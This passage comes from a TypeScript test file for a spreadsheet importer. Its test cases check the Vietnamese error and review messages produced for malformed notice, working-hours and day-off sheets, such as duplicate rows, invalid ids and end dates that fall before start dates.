            ['Tiêu đề', 'Nội dung'],
            ['A', 'B'],
          ],
        },
        {
          name: 'b',
          rows: [
            ['Tiêu đề', 'Nội dung'],
            ['A', 'C'],
          ],
        },
      ]),
    told: ['lỗi: trang b, dòng 1: Trang này cùng loại với trang “a”. Hãy gộp hai trang thành một.'],
    takes: ({ content }) =>
      expect(content).toMatchObject([{ type: 'notice', id: 'a', title: { vi: 'A' }, text: { vi: 'B' } }]),
  },
  {
    name: 'a weekday twice',
    file: sheet('Giờ làm việc', ['Thứ', 'Giờ làm việc'], ['Thứ hai', '7:00-11:00'], ['T2', '8:00-11:00']),
    told: ['lỗi: trang Giờ làm việc, dòng 3, cột Thứ: “T2” đã có ở dòng 2. Hãy gộp hai dòng thành một.'],
  },
  {
    name: 'a day off of an unclear kind',
    file: sheet('Ngày nghỉ', ['Ngày', 'Nghỉ hay làm bù'], ['24/12/2026', 'có lẽ']),
    told: ['lỗi: trang Ngày nghỉ, dòng 2, cột Nghỉ hay làm bù: “có lẽ” không rõ. Hãy ghi nghỉ hoặc làm bù.'],
  },
  {
    name: 'a notice that ends before it begins',
    file: sheet(
      'Thông báo',
      ['Tiêu đề', 'Nội dung', 'Hiện từ ngày', 'Hiện đến hết ngày'],
      ['Nghỉ', 'Nghỉ.', '25/12/2026', '24/12/2026'],
    ),
    told: [
      'lỗi: trang Thông báo, dòng 2, cột Hiện đến hết ngày: Ngày cuối trước ngày đầu. Hãy sửa một trong hai ngày.',
    ],
  },
  {
    name: 'a notice that is over',
    file: sheet('Thông báo', ['Tiêu đề', 'Nội dung', 'Hiện đến hết ngày'], ['Nghỉ', 'Nghỉ.', '1/11/2026']),
    told: ['xem lại: trang Thông báo, dòng 2, cột Hiện đến hết ngày: Thông báo đã hết hạn, nên không hiện.'],
    takes: ({ content }) =>
      expect(content).toMatchObject([
        {
          type: 'notice',
          id: 'nghi',
          title: { vi: 'Nghỉ' },
          text: { vi: 'Nghỉ.' },
          until: '2026-11-01T23:59:59+07:00',
        },
      ]),
  },
  {
    name: 'an id of a notice twice',
    file: sheet('Thông báo', ['Mã thông báo', 'Tiêu đề', 'Nội dung'], ['nghi', 'A', 'B'], ['nghi', 'C', 'D']),
    told: [
      'lỗi: trang Thông báo, dòng 3, cột Mã thông báo: “nghi” đã có ở dòng 2. Hãy gộp hai dòng thành một.',
    ],
  },
  {
    name: 'a title of a notice twice',
    file: sheet('Thông báo', ['Tiêu đề', 'Nội dung'], ['Nghỉ lễ', 'B'], ['Nghỉ lễ', 'D']),
    told: [
      'lỗi: trang Thông báo, dòng 3, cột Tiêu đề: “Nghỉ lễ” đã có ở dòng 2. Hãy gộp hai dòng thành một.',
    ],
  },
  {
    name: 'an id of a notice with marks',
    file: sheet('Thông báo', ['Mã thông báo', 'Tiêu đề', 'Nội dung'], ['Nghỉ lễ', 'A', 'B']),
    told: [
      'lỗi: trang Thông báo, dòng 2, cột Mã thông báo: “Nghỉ lễ” không dùng làm mã được. Chỉ dùng chữ thường không dấu, số và gạch nối, như sinh-con.',
    ],
  },
  {
    name: 'a word for removing that is none',
    file: sheet('Thông báo', ['Tiêu đề', 'Nội dung', 'Xóa?'], ['Nghỉ', 'B', 'tùy']),
    told: [
      'lỗi: trang Thông báo, dòng 2, cột Xóa?: “tùy” không rõ. Muốn bỏ dòng này thì ghi xóa, không thì để trống.',
    ],
  },
];

test.each(cases)('$name', async ({ file, told, takes = nothing }) => {
  const read = await readOfficeLayer({ name: 'bang.xlsx', bytes: file() }, context);
  const { refused, attention, repaired } = read.report;
  const lines = [
    ...refused.map((one) => ['lỗi', one] as const),
    ...attention.map((one) => ['xem lại', one] as const),
    ...repaired.map((one) => ['đã sửa', one] as const),
  ].map(([severity, { vi: said }]) =>
    [severity, said.place, said.message].filter((part) => part !== '').join(': '),
  );
  expect(lines).toEqual(told);
  for (const { message, code } of [...refused, ...attention, ...repaired])
    expect([code, message]).toEqual([code, expect.stringMatching(/^[^{}]{10,}\.$/u)]);
  takes(read);
});

test('there are enough of them', () => {
  expect(cases.length).toBeGreaterThan(60);
});
